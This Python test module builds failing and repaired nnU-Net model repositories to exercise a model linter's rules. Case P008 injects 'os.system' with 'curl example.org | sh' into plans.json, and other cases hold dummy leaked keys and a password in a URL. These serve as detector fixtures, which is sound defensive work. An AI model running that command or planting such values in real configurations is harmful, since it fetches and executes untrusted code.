"""Examples of rules whose test cases are less clear: repositories, plans, privacy, ``--deep``."""

from __future__ import annotations

import json
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

from build import STOCK, Case, Change, changed, drop, edit, package, plans, put, rename_trainer
from checkpoint_files import changed_slim
from model_lint.privacy import scrub

REPOSITORY = {
    "README.md": "# Spinal cord on T2\n\nSegments the spinal cord.\n",
    "LICENSE": "MIT License\n",
    "CITATION.cff": "cff-version: 1.2.0\n",
}
REPAIRED = "repaired"
_SIDES = ["superior", "inferior", "left", "right", "anterior", "posterior"]
PADS = json.dumps({f"pad_{side}": 10 for side in _SIDES})
CHECKPOINT = "fold_0/checkpoint_final.pth"
LOG = "fold_0/training_log_2026_11_23_14_06_03.txt"


def checkout(files: Mapping[str, str | None]) -> Callable[[Path], Path]:
    """Return a function that writes a model repository with these files; None leaves one out."""

    def build(folder: Path) -> Path:
        root = folder / "model_seg_t2"
        for path, text in (REPOSITORY | dict(files)).items():
            if text is not None:
                (root / path).parent.mkdir(parents=True, exist_ok=True)
                (root / path).write_text(text, encoding="utf-8")
        for command in ("init -q", "add --force ."):
            subprocess.run(["git", "-C", str(root), *command.split()], check=True)
        return root

    return build


def repository(
    code: str, what: str, bad: dict[str, str | None], good: dict[str, str]
) -> list[Case]:
    """Return a repository in which a rule reports, and the same repaired."""
    return [Case(code, what, checkout(bad)), Case(code, REPAIRED, checkout(good), fires=False)]


def with_clone(folder: Path) -> Path:
    """Write a model repository in which another one was added with ``git add``."""
    root = checkout({})(folder)
    identity = "-c user.name=x -c user.email=x@example.org"
    for command in (
        "init -q scripts/tools",
        f"-C scripts/tools {identity} commit -q --allow-empty -m x",
        "-c advice.addEmbeddedRepo=false add scripts/tools",
    ):
        subprocess.run(["git", "-C", str(root), *command.split()], check=True)
    return root


def logged(code: str, what: str, line: str) -> list[Case]:
    """Return a package with a leak in a line of its log, and the same without the leak."""
    bad = f"2026-11-23 14:06:03.123456: {line}\n"
    good = changed(code, REPAIRED, put(LOG, scrub(bad)), fires=False)
    return [changed(code, what, put(LOG, bad)), good]


def old_format(data: Any) -> None:
    """Describe the network as nnU-Net 2.2 did."""
    configuration = data["configurations"]["2d"]
    kwargs = configuration.pop("architecture")["arch_kwargs"]
    configuration |= {
        "UNet_class_name": "PlainConvUNet",
        "UNet_base_num_features": 4,
        "unet_max_num_features": 16,
        "n_conv_per_stage_encoder": kwargs["n_conv_per_stage"],
        "n_conv_per_stage_decoder": kwargs["n_conv_per_stage_decoder"],
        "num_pool_per_axis": [3, 3],
        "pool_op_kernel_sizes": kwargs["strides"],
        "conv_kernel_sizes": kwargs["kernel_sizes"],
    }


def of_configuration(change: Callable[[dict[str, Any]], Any]) -> Change:
    """Change the configuration in ``plans.json``."""

    def changed_plans(data: Any) -> None:
        change(data["configurations"]["2d"])

    return plans(changed_plans)


def renamed(data: Any) -> None:
    """Give the configuration another name."""
    data["configurations"]["2d_large"] = data["configurations"].pop("2d")


def flipped(folder: Path) -> Path:
    """Write a package in which one bit of the progress picture was changed."""
    path = package(folder)
    with zipfile.ZipFile(path) as archive:
        (name,) = (name for name in archive.namelist() if name.endswith(".png"))
        content = archive.read(name)
    data = bytearray(path.read_bytes())
    data[data.index(content) + len(content) // 2] ^= 1
    path.write_bytes(data)
    return path


def broken(checkpoint: Any) -> None:
    """Make a weight of the network NaN."""
    next(iter(checkpoint["network_weights"].values())).view(-1)[0] = float("nan")


def cases_left(data: Any) -> None:
    """Leave out one case."""
    data["spacings"].pop()


CASES: list[Case] = [
    *repository("R001", "no README", {"README.md": None}, {}),
    *repository("R002", "no licence", {"LICENSE": None}, {}),
    *repository("R003", "no citation", {"CITATION.cff": None}, {}),
    *repository(
        "R004",
        "a TODO left",
        {"README.md": "# Spinal cord on T2\n\nTrained on TODO subjects.\n"},
        {"README.md": "# Spinal cord on T2\n\nTrained on 267 subjects.\n"},
    ),
    *repository("R005", "a checkpoint in git", {"models/checkpoint_final.pth": "x" * 2000}, {}),
    *repository(
        "R006",
        "a home folder in a script",
        {"scripts/train.sh": "export nnUNet_raw=/home/jdoe/nnUNet_raw\n"},
        {"scripts/train.sh": 'export nnUNet_raw="$HOME/nnUNet_raw"\n'},
    ),
    *repository("R007", "compiled Python", {"scripts/__pycache__/a.cpython-311.pyc": ""}, {}),
    *repository(
        "R008",
        "an option that SCT removed",
        {"README.md": "# Canal\n\n    sct_deepseg -task canal_t2w -i t2.nii.gz\n"},
        {"README.md": "# Canal\n\n    sct_deepseg canal -i t2.nii.gz\n"},
    ),
    *repository(
        "R010",
        "a key of a service in a script",
        {"scripts/train.py": f'wandb.login(key="{"0a1b" * 10}")\n'},
        {"scripts/train.py": 'wandb.login(key=os.environ["WANDB_API_KEY"])\n'},
    ),
    Case("R011", "a clone added as a folder", with_clone),
    Case("R011", REPAIRED, checkout({}), fires=False),
    *repository(
        "R012",
        "a trainer folder in git",
        {f"models/{STOCK}/plans.json": "{}", f"models/{STOCK}/fold_0/checkpoint_final.pth": ""},
        {},
    ),
    changed("P001", "cut off", put("plans.json", '{"plans_name": "nnUNetPlans",\n')),
    changed("P002", "another configuration", plans(renamed)),
    changed("P003", "plans of another training", plans({"plans_name": "nnUNetResEncUNetMPlans"})),
    changed("P004", "the old format", plans(old_format)),
    changed(
        "P005", "a second stage", of_configuration(lambda c: c.update(previous_stage="3d_lowres"))
    ),
    changed("P006", "a case left out", edit("dataset_fingerprint.json", cases_left)),
    changed(
        "P007",
        "a patch that the network can't halve",
        of_configuration(lambda c: c.update(patch_size=[40, 41])),
    ),
    changed(
        "P008",
        "a command for an activation",
        of_configuration(
            lambda c: c["architecture"]["arch_kwargs"].update(
                nonlin="os.system", nonlin_kwargs={"command": "curl example.org | sh"}
            )
        ),
    ),
    *logged(
        "V001",
        "a path in a log",
        "Using splits from existing split file: "
        "/home/jdoe/nnUNet_preprocessed/Dataset101_X/splits_final.json",
    ),
    *logged("V002", "a host in a log", "hostname: gpu-07.cluster"),
    *logged("V003", "a subject in a log", "predicting sub-m012_ses-01_T2w"),
    *logged("V004", "a password in a log", "cloning https://jdoe:s3cret@host.example/nnunet"),
    Case("Z010", "a picture with one wrong bit", flipped),
    changed("C013", "a weight that is not a number", put(CHECKPOINT, changed_slim(broken))),
    # Repaired packages that are nearer to the failing case than a valid one.
    changed("L017", REPAIRED, drop("trainer_class.py"), rename_trainer(STOCK), fires=False),
    changed("L020", REPAIRED, put("/crop_metadata.json", PADS), fires=False),
    changed("L021", REPAIRED, put("/crop_metadata.json", PADS), fires=False),
]
